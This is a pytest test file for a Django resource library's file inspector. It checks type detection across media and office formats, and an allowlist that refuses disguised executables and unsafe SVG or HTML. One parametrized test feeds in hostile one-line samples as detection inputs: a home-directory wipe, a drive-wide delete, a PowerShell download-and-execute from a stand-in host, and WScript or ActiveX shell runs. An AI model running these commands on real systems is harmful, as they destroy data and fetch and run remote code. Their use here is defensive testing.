"""Real type from content, technical probes, and the per-type allowlist (inspection.py)."""

import struct

import pytest
from django.utils import translation
from PIL import Image

from reslib.resources import inspection
from reslib.resources.inspection import allowed_findings, finding_message, inspect_file

from . import media


def _codes(findings):
    return [(f["level"], f["code"]) for f in findings]


# --- type detection from content ----------------------------------------------------------------------------------

def test_h264_mp4_probe(tmp_path):
    info = inspect_file(media.video(tmp_path, "课程.mp4"), "课程.mp4")
    assert (info["mime_type"], info["kind"]) == ("video/mp4", "video")
    p = info["probe"]
    assert p["container"] == "mp4"
    assert p["duration"] == pytest.approx(2.0, abs=0.1)
    assert (p["video_codec"], p["width"], p["height"], p["fps"]) == ("h264", 640, 360, 25.0)
    assert (p["audio_codec"], p["sample_rate"], p["channels"]) == ("aac", 44100, 2)
    assert p["video_bitrate"] > 0 and p["audio_bitrate"] > 0 and p["bitrate"] > 0


def test_matroska_mpeg4_probe_estimates_video_bitrate(tmp_path):
    info = inspect_file(media.mkv_mpeg4(tmp_path), "old.mkv")
    assert (info["mime_type"], info["kind"]) == ("video/x-matroska", "video")
    p = info["probe"]
    assert (p["container"], p["video_codec"], p["audio_codec"]) == ("mkv", "mpeg4", "mp3")
    assert p["video_bitrate_estimated"] is True and p["video_bitrate"] > 0


def test_audio_only_mp4_is_audio(tmp_path):
    path = media.audio(tmp_path, "voice.m4a", codec="aac", container="mp4")
    info = inspect_file(path, "voice.m4a")
    assert (info["mime_type"], info["kind"]) == ("audio/mp4", "audio")
    assert info["probe"]["audio_codec"] == "aac"


def test_mp3_with_id3_and_by_frame_sync(tmp_path):
    path = media.audio(tmp_path, "talk.mp3")
    info = inspect_file(path, "talk.mp3")
    assert (info["mime_type"], info["kind"]) == ("audio/mpeg", "audio")
    assert (info["probe"]["audio_codec"], info["probe"]["audio_bitrate"]) == ("mp3", 128000)
    data = path.read_bytes()
    assert data.startswith(b"ID3")
    tag_size = (data[6] << 21) | (data[7] << 14) | (data[8] << 7) | data[9]
    bare = tmp_path / "bare.bin"
    bare.write_bytes(data[10 + tag_size:])
    assert inspect_file(bare, "bare.bin")["mime_type"] == "audio/mpeg"


def test_wav(tmp_path):
    info = inspect_file(media.wav(tmp_path), "tone.wav")
    assert (info["mime_type"], info["kind"], info["probe"]["audio_codec"]) == ("audio/wav", "audio", "pcm")
    assert info["probe"]["duration"] == pytest.approx(1.0, abs=0.05)


@pytest.mark.parametrize("fmt,mime", [("PNG", "image/png"), ("JPEG", "image/jpeg"), ("WEBP", "image/webp"),
                                      ("GIF", "image/gif")])
def test_images(tmp_path, fmt, mime):
    info = inspect_file(media.image(tmp_path, "pic.bin", fmt=fmt, size=(1024, 768)), "pic.bin")
    assert (info["mime_type"], info["kind"]) == (mime, "image")
    assert (info["probe"]["width"], info["probe"]["height"]) == (1024, 768)
    assert info["probe"]["bit_depth"] == 8


def test_image_decompression_bomb_is_not_decoded(tmp_path, monkeypatch):
    path = media.image(tmp_path, "big.png", size=(400, 300))
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 10_000)
    info = inspect_file(path, "big.png")
    assert info["kind"] == "image"
    assert "too large" in info["probe"]["error"]


def test_pdf_pages_and_encryption(tmp_path):
    info = inspect_file(media.pdf(tmp_path, pages=3), "a.pdf")
    assert (info["mime_type"], info["kind"]) == ("application/pdf", "pdf")
    assert info["probe"]["pages"] == 3 and info["probe"]["encrypted"] is False
    locked = inspect_file(media.pdf(tmp_path, "locked.pdf", encrypt=True), "locked.pdf")
    assert locked["probe"]["encrypted"] is True


@pytest.mark.parametrize("maker,fmt", [(media.docx, "docx"), (media.pptx, "pptx"), (media.xlsx, "xlsx")])
def test_ooxml(tmp_path, maker, fmt):
    info = inspect_file(maker(tmp_path), "x")
    assert (info["mime_type"], info["kind"], info["probe"]["format"]) == (inspection.OOXML_MIME[fmt], "office", fmt)
    if fmt == "pptx":
        assert info["probe"]["slides"] == 2


def test_legacy_office_and_msi(tmp_path):
    assert inspect_file(media.ole2(tmp_path), "a.doc")["mime_type"] == "application/msword"
    assert inspect_file(media.ole2(tmp_path, "b.xls", streams=["Workbook"]), "b")["probe"]["format"] == "xls"
    assert inspect_file(media.ole2(tmp_path, "c.ppt", streams=["PowerPoint Document"]), "c")["kind"] == "office"
    msi_clsid = bytes.fromhex("84100c0000000000c000000000000046")
    msi = inspect_file(media.ole2(tmp_path, "setup.doc", streams=["x"], root_clsid=msi_clsid), "setup.doc")
    assert (msi["kind"], msi["probe"]["format"]) == ("executable", "msi")


def test_zip_html5_package(tmp_path):
    info = inspect_file(media.zip_archive(tmp_path), "pkg.zip")
    assert (info["mime_type"], info["kind"]) == ("application/zip", "archive")
    assert info["probe"]["has_index_html"] is True and info["probe"]["entries"] == 2


def test_subtitles_svg_html_text(tmp_path):
    assert inspect_file(media.srt(tmp_path), "a.srt")["probe"] == {"format": "srt", "encoding": "utf-8", "cues": 2}
    assert inspect_file(media.vtt(tmp_path), "a.vtt")["mime_type"] == "text/vtt"
    svg = inspect_file(media.svg(tmp_path), "a.svg")
    assert (svg["kind"], svg["probe"]["scripts"], svg["probe"]["width"]) == ("image", False, 300)
    assert inspect_file(media.svg(tmp_path, "b.svg", script=True), "b.svg")["probe"]["scripts"] is True
    html = tmp_path / "page.txt"
    html.write_text("<!DOCTYPE html><html><body>hi</body></html>")
    assert inspect_file(html, "page.txt")["mime_type"] == "text/html"
    gbk = tmp_path / "gbk.txt"
    gbk.write_bytes("数控车床对刀操作说明\n".encode("gb18030"))
    info = inspect_file(gbk, "gbk.txt")
    assert (info["mime_type"], info["probe"]["encoding"]) == ("text/plain", "gb18030")


@pytest.mark.parametrize("maker,fmt", [(media.elf, "elf"), (media.pe, "pe")])
def test_binary_executables(tmp_path, maker, fmt):
    info = inspect_file(maker(tmp_path), "report.pdf")
    assert info["kind"] == "executable" and info["probe"]["format"] == fmt


@pytest.mark.parametrize("content,mime", [
    ("#!/bin/sh\nrm -rf ~\n", "text/x-script"),
    ("@echo off\r\ndel /q C:\\*\r\n", "application/x-bat"),
    ("$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://x/a')\n", "text/x-powershell"),
    ('Set sh = CreateObject("WScript.Shell")\nsh.Run "cmd"\n', "text/vbscript"),
    ('var s = new ActiveXObject("WScript.Shell"); s.Run("calc");', "text/jscript"),
])
def test_scripts_from_content(tmp_path, content, mime):
    path = tmp_path / "x.pdf"
    path.write_text(content)
    info = inspect_file(path, "x.pdf")
    assert (info["mime_type"], info["kind"]) == (mime, "executable")


def test_text_that_looks_like_a_box_header_is_text(tmp_path):
    path = tmp_path / "notes.txt"
    path.write_text("The free software movement\n" + "G" * 1000)
    assert inspect_file(path, "notes.txt")["mime_type"] == "text/plain"


def test_browser_javascript_in_text_is_just_text(tmp_path):
    path = tmp_path / "code.txt"
    path.write_text("// 例题\nfunction add(a, b) { return a + b; }\nconsole.log(add(1, 2));\n")
    assert inspect_file(path, "code.txt")["kind"] == "text"


def test_broken_files_give_probe_errors_not_exceptions(tmp_path):
    broken = tmp_path / "broken.mp4"
    broken.write_bytes(struct.pack(">I", 24) + b"ftypisom" + b"\x00" * 12 + b"garbage" * 50)
    info = inspect_file(broken, "broken.mp4")
    assert info["kind"] == "video" and "error" in info["probe"]
    bad_pdf = tmp_path / "bad.pdf"
    bad_pdf.write_bytes(b"%PDF-1.4\nnot really\n")
    assert "error" in inspect_file(bad_pdf, "bad.pdf")["probe"]
    bad_zip = tmp_path / "bad.docx"
    bad_zip.write_bytes(b"PK\x03\x04" + b"\x00" * 40)
    assert "error" in inspect_file(bad_zip, "bad.docx")["probe"]
    empty = tmp_path / "empty.pdf"
    empty.write_bytes(b"")
    assert inspect_file(empty, "empty.pdf")["kind"] == "other"
    noise = tmp_path / "noise.bin"
    noise.write_bytes(bytes(range(256)) * 8)
    assert inspect_file(noise, "noise.bin")["kind"] == "other"
    assert inspect_file(tmp_path / "missing", "missing")["probe"]["error"].startswith("cannot read")


# --- allowlist ----------------------------------------------------------------------------------------------------

def _findings(path, name, resource_type, role="main"):
    info = inspect_file(path, name)
    return allowed_findings(info["kind"], info["mime_type"], name, resource_type, role, probe=info["probe"])


def test_executable_disguised_as_document_is_refused(tmp_path):
    findings = _findings(media.elf(tmp_path), "report.pdf", "text")
    assert _codes(findings) == [("error", "file.disguised_executable")]
    assert findings[0]["file"] == "report.pdf"
    assert findings[0]["message"] == "“report.pdf” is a program or script (ELF) disguised as a document; it is refused."
    assert _codes(_findings(media.shebang_script(tmp_path), "homework.docx", "text")) == [
        ("error", "file.disguised_executable")]
    assert _codes(_findings(media.pe(tmp_path), "invoice.pdf", "case")) == [("error", "file.disguised_executable")]


def test_double_extension_and_plain_executables(tmp_path):
    path = media.text(tmp_path, "notes.pdf.exe")
    assert _codes(_findings(path, "notes.pdf.exe", "software")) == [("error", "file.disguised_executable")]
    assert _codes(_findings(media.pe(tmp_path, "setup.exe"), "setup.exe", "software")) == [
        ("error", "file.executable")]
    assert _codes(_findings(media.text(tmp_path, "run.sh"), "run.sh", "text")) == [("error", "file.executable")]


def test_extension_contradicting_content(tmp_path):
    png = media.image(tmp_path, "scan.pdf")
    assert _codes(_findings(png, "scan.pdf", "image")) == [("error", "file.extension_mismatch")]
    assert _codes(_findings(png, "scan.pdf", "text")) == [("error", "file.extension_mismatch"),
                                                          ("error", "file.type_not_allowed")]
    # Unknown or missing extensions promise nothing; a MOV named .mp4 is accepted.
    assert _findings(png, "scan", "image") == []
    assert _findings(media.image(tmp_path, "x.jpeg", fmt="JPEG"), "照片.JPG", "image") == []


@pytest.mark.parametrize("resource_type,ok,refused", [
    ("video", ["lesson.mp4"], ["handout.pdf", "photo.png", "talk.mp3"]),
    ("micro_lesson", ["lesson.mp4", "old.mkv"], ["slides.pptx"]),
    ("audio", ["talk.mp3", "tone.wav"], ["lesson.mp4"]),
    ("image", ["photo.png", "anim.gif"], ["handout.pdf"]),
    ("text", ["handout.pdf", "lesson-plan.docx", "notes.txt", "scores.xlsx"], ["lesson.mp4", "package.zip"]),
    ("slides", ["slides.pptx", "handout.pdf"], ["lesson-plan.docx", "scores.xlsx"]),
    ("animation", ["lesson.mp4", "anim.gif", "package.zip"], ["handout.pdf"]),
    ("simulation", ["package.zip"], ["handout.pdf"]),
    ("software", ["package.zip"], ["lesson-plan.docx"]),
    ("course_package", ["package.zip", "handout.pdf"], ["talk.mp3"]),
    ("external_link", [], ["handout.pdf", "lesson.mp4"]),
])
def test_allowlist_per_resource_type(tmp_path, resource_type, ok, refused):
    files = {
        "lesson.mp4": media.video(tmp_path, seconds=0.4), "old.mkv": media.mkv_mpeg4(tmp_path, seconds=0.4),
        "handout.pdf": media.pdf(tmp_path), "photo.png": media.image(tmp_path), "talk.mp3": media.audio(tmp_path),
        "tone.wav": media.wav(tmp_path), "anim.gif": media.gif(tmp_path), "lesson-plan.docx": media.docx(tmp_path),
        "notes.txt": media.text(tmp_path), "scores.xlsx": media.xlsx(tmp_path), "slides.pptx": media.pptx(tmp_path),
        "package.zip": media.zip_archive(tmp_path),
    }
    for name in ok:
        assert _findings(files[name], name, resource_type) == [], name
    for name in refused:
        assert _codes(_findings(files[name], name, resource_type)) == [("error", "file.type_not_allowed")], name


def test_attachments_accept_subtitles_and_documents_only(tmp_path):
    assert _findings(media.srt(tmp_path), "lesson.srt", "micro_lesson", "attachment") == []
    assert _findings(media.vtt(tmp_path), "lesson.vtt", "micro_lesson", "attachment") == []
    assert _findings(media.pdf(tmp_path), "讲义.pdf", "micro_lesson", "attachment") == []
    assert _codes(_findings(media.video(tmp_path, seconds=0.4), "b.mp4", "video", "attachment")) == [
        ("error", "file.type_not_allowed")]


def test_hostile_content_inside_allowed_types(tmp_path):
    assert _codes(_findings(media.svg(tmp_path, script=True), "d.svg", "image")) == [("error", "file.unsafe_svg")]
    assert _findings(media.svg(tmp_path), "d.svg", "image") == []
    html = tmp_path / "page.html"
    html.write_text("<!doctype html><script>alert(1)</script>")
    assert _codes(_findings(html, "page.html", "text")) == [("error", "file.type_not_allowed")]
    no_index = media.zip_archive(tmp_path, "anim.zip", files={"readme.txt": b"hi"})
    assert _codes(_findings(no_index, "anim.zip", "animation")) == [("error", "file.html5_missing_index")]


def test_findings_are_stored_as_code_and_params_and_rendered_per_language(tmp_path):
    png = media.image(tmp_path, "scan.pdf")
    findings = _findings(png, "scan.pdf", "text")
    mismatch, not_allowed = findings
    assert mismatch["params"] == {"extension": "pdf", "detected": "image"}
    assert mismatch["message"] == ("The name of “scan.pdf” says .pdf but its content is image; "
                                   "rename or convert the file.")
    assert not_allowed["params"]["accepted"] == ["pdf", "office", "text"]
    with translation.override("en"):
        assert finding_message(not_allowed) == (
            "A “Text” resource does not accept image as its main file; accepted: PDF document, office document, text.")
    with translation.override("zh-hans"):
        assert "scan.pdf" in finding_message(mismatch)
    assert finding_message({"code": "something.unknown", "message": "kept as stored"}) == "kept as stored"
